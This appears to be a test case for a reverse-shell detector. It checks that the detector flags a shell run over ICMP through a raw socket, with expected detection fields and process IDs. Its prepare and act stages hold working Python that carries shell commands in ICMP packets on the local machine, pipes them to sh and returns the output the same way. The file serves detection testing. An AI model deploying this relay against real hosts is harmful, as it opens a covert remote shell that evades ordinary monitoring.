# R56: a shell over ICMP, by a raw socket
# stage: behaviour
# within: 8000 ms
# expect: reverse_shell_detected
#   detection.reason: ~over a socket of IP protocol 1 at
#   detection.confidence: medium
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $relay
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
python3 -c '
import os, socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
due = time.monotonic()
while os.path.exists(os.environ["hold"]):
    if time.monotonic() >= due:
        s.sendto(b"\x0d\0\0\0R056id\n", ("127.0.0.1", 0)); due += 6
    time.sleep(0.1)' > /dev/null 2>&1 &
#: act
. lib/peers.sh
act
python3 -c '
import os, select, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
shell = subprocess.Popen(["sh", "-s", "r56"], stdin=-1, stdout=-1, bufsize=0)
while os.path.exists(os.environ["hold"]):
    ready = select.select([s, shell.stdout], [], [], 0.1)[0]
    if shell.stdout in ready: s.sendto(b"\0\0\0\0r056" + shell.stdout.read(99), ("127.0.0.1", 0))
    if s in ready:
        head, mark, line = s.recv(2048).partition(b"R056")
        if mark: shell.stdin.write(line)' < /dev/null > /dev/null 2>&1 & fact relay $!
who shell 'sh -s r56'
await 'at $shell 0 pipe:* && at $relay 3 socket:*'
